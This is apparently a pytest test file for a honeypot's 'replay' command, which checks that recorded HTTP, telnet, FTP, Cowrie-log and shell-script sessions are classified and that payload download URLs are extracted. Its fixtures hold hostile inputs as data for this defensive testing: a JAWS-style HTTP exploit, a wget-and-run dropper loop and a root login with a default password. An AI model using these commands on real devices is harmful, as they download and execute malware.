"""`eudaemon replay`: recordings of every kind through the real rooms, and the three exit codes."""

from __future__ import annotations

import json
from io import BytesIO, TextIOWrapper
from pathlib import Path
from typing import Any

import pytest

from eudaemon.cli import _recordings, main
from eudaemon.wire import conversation

JAWS = b"GET /shell?cd+/tmp;wget+http://45.9.8.7/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: x\r\n\r\n"
COWRIE = [
    {"eventid": "cowrie.session.connect", "session": "a1"},
    {"eventid": "cowrie.login.failed", "session": "a1", "username": "root", "password": "root"},
    {"eventid": "cowrie.login.success", "session": "a1", "username": "root", "password": "admin"},
    {"eventid": "cowrie.command.input", "session": "a1", "input": "cd /tmp; wget http://45.9.8.7/x; sh x"},
    {"eventid": "cowrie.session.file_download", "session": "a1", "url": "http://45.9.8.7/x"},
    {"eventid": "cowrie.session.connect", "session": "b2"},
    {"eventid": "cowrie.session.closed", "session": "b2", "duration": 1.0},
]


class Played:
    """What one run printed."""

    def __init__(self, code: int, out: str, err: str) -> None:
        self.code, self.err = code, err
        self.conversations: list[dict[str, Any]] = [json.loads(line) for line in out.splitlines()]

    def kinds(self, number: int = 0) -> list[str]:
        return [fact["kind"] for fact in self.conversations[number]["facts"]]


@pytest.fixture
def played(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Any:
    def play(*contents: bytes, room: str = "") -> Played:
        paths = []
        for number, content in enumerate(contents):
            paths.append(tmp_path / f"file{number}")
            paths[-1].write_bytes(content)
        code = main(["replay", "--json", *(["--room", room] if room else []), *map(str, paths)])
        said = capsys.readouterr()
        return Played(code, said.out, said.err)

    return play


def recorded(*pieces: tuple[int, int, bytes]) -> bytes:
    return conversation.MAGIC + b"".join(conversation.encode(side, ms, data) for side, ms, data in pieces)


def test_a_request_goes_to_the_web_room(played: Any) -> None:
    run = played(JAWS)
    assert (run.code, run.conversations[0]["room"]) == (0, "http")
    assert {"http.request", "exploit.recognised", "command.entered"} <= set(run.kinds())
    assert run.conversations[0]["wishes"] == [{"url": "http://45.9.8.7/jaws", "tool": "wget", "name": "jaws"}]


def test_a_recorded_telnet_session_goes_to_the_telnet_room(played: Any) -> None:
    run = played(recorded((1, 0, b"login: "), (0, 900, b"root\r\n"), (1, 950, b"Password: "), (0, 2000, b"root\r\n"),
                          (0, 3000, b"echo -ne '\\x7fELF' > /tmp/x\r\n"), (0, 3500, b"frobnicate\r\n")))  # fmt: skip
    (told,) = run.conversations
    assert (run.code, told["room"]) == (1, "telnet")
    assert "login.tried" in run.kinds()
    assert told["not_understood"] == ["unknown command: frobnicate"]
    assert [(a["origin"], a["name"], a["size"]) for a in told["artefacts"]] == [("upload", "/tmp/x", 4)]


def test_a_recorded_ftp_session_is_understood_although_there_is_no_data_connection(played: Any) -> None:
    run = played(recorded((1, 0, b"220 hi\r\n"), (0, 100, b"USER ftp\r\n"), (0, 200, b"PASS a\r\nPASV\r\n"),
                          (0, 300, b"STOR bot\r\n"), (0, 400, b"DELE /etc/passwd\r\n")))  # fmt: skip
    (told,) = run.conversations
    assert told["room"] == "ftp"
    assert "file.requested" in run.kinds()


def test_a_cowrie_log_is_a_session_for_each_session_that_said_something(played: Any) -> None:
    run = played("\n".join(map(json.dumps, COWRIE)).encode())
    (told,) = run.conversations
    assert (run.code, told["room"]) == (0, "telnet")
    assert told["name"].endswith("session a1")
    assert [w["url"] for w in told["wishes"]] == ["http://45.9.8.7/x"]


def test_the_cut_last_line_of_a_log_is_left_out_with_a_warning(played: Any) -> None:
    run = played("\n".join(map(json.dumps, COWRIE)).encode()[:-9])
    assert (run.code, len(run.conversations)) == (0, 1)
    assert f"file0:{len(COWRIE)}: the last line is cut off" in run.err


DROPPER = b"for a in arm mips; do wget http://45.9.8.7/$a; chmod 777 $a; ./$a; done\necho one\necho two\n"


@pytest.mark.parametrize("first", [b"#!/bin/sh\n", b"#!/bin/busybox ash\n", b""])
def test_a_script_is_commands_and_no_logins(first: bytes, played: Any) -> None:
    run = played(first + DROPPER)
    (told,) = run.conversations
    assert (run.code, told["room"], run.kinds()) == (0, "shell", ["command.entered"] * 3)
    assert [w["url"] for w in told["wishes"]] == ["http://45.9.8.7/arm", "http://45.9.8.7/mips"]


def test_a_script_for_another_interpreter_is_no_shells(played: Any) -> None:
    (told,) = played(b"#!/usr/bin/python3\nimport os\n").conversations
    assert told["room"] == "catchall"
    assert not told["wishes"]


def test_lines_that_are_commands_are_no_logins_even_without_a_wish(played: Any) -> None:
    (told,) = played(b"uname -a\nid\n").conversations
    assert told["room"] == "catchall"
    assert [fact["kind"] for fact in told["facts"]] == ["payload.classified", "command.entered", "command.entered"]


def test_what_mirai_sends_to_be_told_that_there_is_no_such_thing_is_understood(played: Any) -> None:
    run = played(b"root\r\nroot\r\nenable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n")
    (told,) = run.conversations
    assert (run.code, told["room"], told["not_understood"]) == (0, "telnet", [])
    run = played(b"root\r\nroot\r\nenable\r\nECCHI\r\n")
    assert run.conversations[0]["not_understood"] == ["unknown command: ECCHI"]


def test_standard_input(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setattr("sys.stdin", TextIOWrapper(BytesIO(JAWS)))
    assert main(["replay", "-"]) == 0
    assert capsys.readouterr().out.startswith("-: http\n")


def test_what_a_log_saw_downloaded_and_no_room_wished_is_told(played: Any) -> None:
    other = {"eventid": "cowrie.session.file_download", "session": "a1", "url": "http://45.9.8.7/other"}
    run = played("\n".join(map(json.dumps, [*COWRIE, other])).encode())
    assert run.code == 1
    assert run.conversations[0]["not_understood"] == ["recorded but not wished here: http://45.9.8.7/other"]


def test_bytes_that_nobody_claims(played: Any) -> None:
    run = played(b"\xde\xad\xbe\xef" * 8)
    (told,) = run.conversations
    assert (run.code, told["room"]) == (1, "catchall")
    assert told["not_understood"] == ["unclaimed bytes: " + "deadbeef" * 8]


def test_a_room_can_be_chosen(played: Any) -> None:
    assert played(JAWS, room="catchall").conversations[0]["room"] == "catchall"


def test_a_conversation_cut_off_anywhere_still_plays(played: Any) -> None:
    whole = recorded((0, 0, JAWS), (0, 10, JAWS))
    for cut in (len(conversation.MAGIC) + 3, len(whole) // 2, len(whole) - 1):
        assert len(played(whole[:cut]).conversations) == 1


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "empty"),
        (b"\xd4\xc3\xb2\xa1" + bytes(40), "pcap files cannot be replayed yet"),
        (b"\x0a\x0d\x0d\x0a" + bytes(40), "pcap files cannot be replayed yet"),
        (conversation.MAGIC + bytes((7, 0, 0, 0, 0, 0, 1)) + b"x", "side 7"),
        (json.dumps(COWRIE[0]).encode() + b"\n{broken\n{}", "file0:2: no JSON"),
        (json.dumps(COWRIE[0]).encode() + b"\n[1]", "file0:2: no JSON object"),
        (json.dumps(COWRIE[0]).encode() + b"\n" + b"[" * 100_000 + b"\n{}", "file0:2: no JSON"),
    ],
)
def test_what_cannot_be_read_is_named_and_stops_nothing_else(content: bytes, reason: str, played: Any) -> None:
    run = played(content, JAWS)
    assert run.code == 2
    assert reason in run.err
    assert [told["room"] for told in run.conversations] == ["http"]


def test_a_log_of_too_many_sessions(played: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_recordings, "SESSIONS_MAX", 1)
    assert "more than 1 sessions" in played("\n".join(map(json.dumps, COWRIE)).encode()).err


def test_for_people(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "jaws"
    path.write_bytes(JAWS)
    assert main(["replay", str(path), str(tmp_path / "nothing")]) == 2
    said = capsys.readouterr()
    assert said.out.startswith(f"{path}: http\n  http.request ")
    assert "  wish                 http://45.9.8.7/jaws (wget)\n" in said.out
    assert "no such file" in said.err
